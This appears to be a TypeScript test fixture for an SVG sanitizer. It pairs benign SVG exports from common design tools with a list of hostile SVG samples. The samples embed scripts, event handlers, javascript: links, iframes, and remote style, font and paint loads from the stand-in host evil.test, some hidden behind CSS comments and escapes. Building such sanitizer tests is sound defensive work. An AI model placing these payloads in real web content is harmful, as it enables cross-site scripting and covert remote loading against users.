/** Drawings as the usual programs write them, each with what these programs add of their own. */
export const EXPORTED_DRAWINGS: { by: string; svg: string }[] = [
  {
    by: 'Illustrator, with a stylesheet',
    svg: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 28.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 64 64" style="enable-background:new 0 0 64 64;" xml:space="preserve">
<style type="text/css">
	.st0{clip-path:url(#SVGID_2_);}
	.st1{fill:url(#SVGID_3_);stroke:#231F20;stroke-width:2;stroke-miterlimit:10;}
	.st2{fill:#FFFFFF;font-family:'Georgia-Bold','Georgia';font-size:20px;}
	.st0,.st1{opacity:0.95}
</style>
<linearGradient id="SVGID_3_" gradientUnits="userSpaceOnUse" x1="4" y1="32" x2="60" y2="32">
	<stop  offset="0" style="stop-color:#1B3A5C"/>
	<stop  offset="1" style="stop-color:#7A1F2B"/>
</linearGradient>
<defs><rect id="SVGID_1_" x="4" y="8" width="56" height="48"/></defs>
<clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_"  style="overflow:visible;"/></clipPath>
<g class="st0"><path class="st1" d="M32,2l28,30L32,62L4,32L32,2z"/></g>
<text transform="matrix(1 0 0 1 18 39)" class="st2">§ 12</text>
</svg>`,
  },
  {
    by: 'Illustrator, with a switch for its own data',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/" viewBox="0 0 64 64">
<defs><style><![CDATA[.cls-1{fill:#0a7d55;}.cls-2{mask:url(#mask);}]]></style>
<mask id="mask" x="0" y="0" width="64" height="64" maskUnits="userSpaceOnUse"><circle cx="32" cy="32" r="24" fill="#fff"/></mask></defs>
<switch><foreignObject requiredExtensions="http://ns.adobe.com/AdobeIllustrator/10.0/" x="0" y="0" width="1" height="1"/>
<g i:extraneous="self"><g id="Layer_2" data-name="Layer 2"><g class="cls-2"><rect class="cls-1" width="64" height="40"/></g></g></g></switch></svg>`,
  },
  {
    by: 'Inkscape',
    svg: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg width="64mm" height="64mm" viewBox="0 0 64 64" version="1.1" id="svg5" inkscape:version="1.3.2" sodipodi:docname="scales.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff"><inkscape:grid type="xygrid" id="grid1" /></sodipodi:namedview>
  <metadata id="m"><rdf:RDF><cc:Work rdf:about="" /></rdf:RDF></metadata>
  <defs id="defs2">
    <linearGradient inkscape:collect="always" id="lg1"><stop style="stop-color:#d4af37;stop-opacity:1;" offset="0" id="s1" />
      <stop style="stop-color:#3b2f0b;stop-opacity:0.6;" offset="1" id="s2" /></linearGradient>
    <radialGradient inkscape:collect="always" xlink:href="#lg1" id="rg1" cx="32" cy="32" fx="32" fy="32" r="28" gradientUnits="userSpaceOnUse" />
    <filter inkscape:label="Blur" id="f1" x="-0.1" y="-0.1" width="1.2" height="1.2"><feGaussianBlur stdDeviation="1.5" id="b1" /></filter>
  </defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <svg:circle style="fill:url(#rg1);fill-rule:evenodd;stroke:#000000;stroke-width:1.5;filter:url(#f1)" id="c1" cx="32" cy="32" r="26" />
    <text xml:space="preserve" style="font-style:normal;font-size:14px;line-height:1.25;font-family:serif;-inkscape-font-specification:'serif, Normal';fill:#102030"
       x="12" y="38" id="t1"><tspan sodipodi:role="line" id="ts1" x="12" y="38">Rule  9</tspan></text>
  </g>
</svg>`,
  },
  {
    by: 'Figma',
    svg: `<svg width="64" height="64" viewBox="0 0 64 64" fill="none" xmlns="http://www.w3.org/2000/svg">
<g clip-path="url(#clip0_12:34)"><g filter="url(#filter0_d_12_34)"><rect x="8" y="8" width="48" height="44" rx="10" fill="url(#paint0_linear_12_34)"/></g>
<g style="mix-blend-mode:multiply" opacity="0.8"><path fill-rule="evenodd" clip-rule="evenodd" d="M20 20H44V28H20V20ZM20 34H38V40H20V34Z" fill="#F5F0E6"/></g>
<mask id="mask0_12_34" style="mask-type:alpha" maskUnits="userSpaceOnUse" x="0" y="0" width="64" height="64"><circle cx="50" cy="48" r="9" fill="#D9D9D9"/></mask>
<g mask="url(#mask0_12_34)"><path d="M40 38H64V60H40V38Z" fill="#C0392B"/></g></g>
<defs><filter id="filter0_d_12_34" x="0" y="0" width="64" height="64" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB">
<feFlood flood-opacity="0" result="BackgroundImageFix"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/>
<feOffset dy="3"/><feGaussianBlur stdDeviation="2"/><feComposite in2="hardAlpha" operator="out"/>
<feColorMatrix type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0.35 0"/><feBlend mode="normal" in2="BackgroundImageFix" result="effect1"/>
<feBlend mode="normal" in="SourceGraphic" in2="effect1" result="shape"/></filter>
<linearGradient id="paint0_linear_12_34" x1="8" y1="8" x2="56" y2="52" gradientUnits="userSpaceOnUse"><stop stop-color="#2C3E50"/><stop offset="1" stop-color="#8E9EAB"/></linearGradient>
<clipPath id="clip0_12:34"><rect width="64" height="64" fill="white"/></clipPath></defs></svg>`,
  },
  {
    by: 'a text editor, with links, symbols and markers',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><title>Appeal</title>
<defs><symbol id="leaf" viewBox="0 0 10 10"><path d="M0 10Q0 0 10 0Q10 10 0 10" fill="#27613b"/></symbol>
<marker id="dot" markerWidth="4" markerHeight="4" refX="2" refY="2"><circle cx="2" cy="2" r="2" fill="#a33"/></marker>
<pattern id="hatch" width="4" height="4" patternUnits="userSpaceOnUse"><path d="M0 4L4 0" stroke="#889"/></pattern></defs>
<rect width="64" height="64" fill="url( '#hatch' )"/><a href="https://example.com/"><use href="#leaf" x="6" y="6" width="24" height="24"/></a>
<polyline points="8,56 24,40 40,50 58,30" fill="none" stroke="#333" marker-start="url(#dot)" marker-mid="url(#dot)" marker-end="url(#dot)"/>
<path id="arc" d="M8 34Q32 18 58 22" fill="none"/><text font-size="8"><textPath href="#arc">In re &amp; ex <a href="https://example.com/"><tspan font-weight="bold">parte</tspan></a></textPath></text></svg>`,
  },
];

/** What may never be read, drawn or repeated; `hides` says what each one is about. */
export const HOSTILE_DRAWINGS: { hides: string; svg: string }[] = [
  ...[
    ['a script', '<script>alert(1)</script>'],
    ['a script from elsewhere', '<script href="https://evil.test/x.js"/>'],
    ['a script under a prefix', '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'],
    [
      'a page',
      '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/"/></foreignObject>',
    ],
    ['a page’s script', '<g xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></g>'],
    ['an event handler', '<rect width="9" height="9" onload="alert(1)" onclick="alert(1)"/>'],
    ['a handler that an animation sets', '<set attributeName="onmouseover" to="alert(1)"/>'],
    ['an address that an animation sets', '<a href="#x"><animate attributeName="href" values="javascript:alert(1)"/></a>'],
    [
      'a link that runs',
      '<a href="javascript:alert(1)" xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"><path d="M0 0h9"/></a>',
    ],
    ['a part of another file', '<use href="https://evil.test/x.svg#a"/><use href="data:image/svg+xml,%3Csvg/%3E#a"/>'],
    ['a paint from elsewhere', '<rect width="9" height="9" fill="url(https://evil.test/x.svg#p)"/>'],
    ['a paint from elsewhere behind a comment', '<rect width="9" height="9" style="fill:/**/url(/*#a*/https://evil.test/p)"/>'],
    ['a filter from elsewhere in escapes', '<rect width="9" height="9" style="filter:u\\72l(https://evil.test/f)"/>'],
    ['a stylesheet from elsewhere', '<style>@import "https://evil.test/x.css";</style>'],
    ['a stylesheet from elsewhere in a rule', '<style>@media all{@import url(https://evil.test/x.css);} rect{fill:red}</style>'],
    ['a font from elsewhere', '<style>@font-face{font-family:x;src:url(https://evil.test/x.woff)}text{font-family:x}</style>'],
    [
      'a background from elsewhere',
      '<style>svg{background-image:url("https://evil.test/b.png")}rect{cursor:image-set("https://evil.test/c.png" 1x)}</style>',
    ],
    ['a style that closes itself', '<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>'],
    ['another base address', '<g xml:base="https://evil.test/"><use href="#x"/></g>'],
    [
      'a discarded part',
      '<discard begin="0s"/><handler type="application/ecmascript">alert(1)</handler><listener event="load"/>',
    ],
    ['sound and film', '<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/a.mp3" autoplay="autoplay"/>'],
  ].map(([hides = '', inside]) => ({
    hides,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${inside}<path d="M0 0h9v9z"/></svg>`,
  })),
  {
    hides: 'a stylesheet that an instruction names',
    svg: '<?xml version="1.0"?><?xml-stylesheet href="https://evil.test/x.css"?><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z"/></svg>',
  },
  {
    hides: 'a handler of the whole',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" onbegin="alert(1)"><path d="M0 0h9v9z"/></svg>',
  },
];
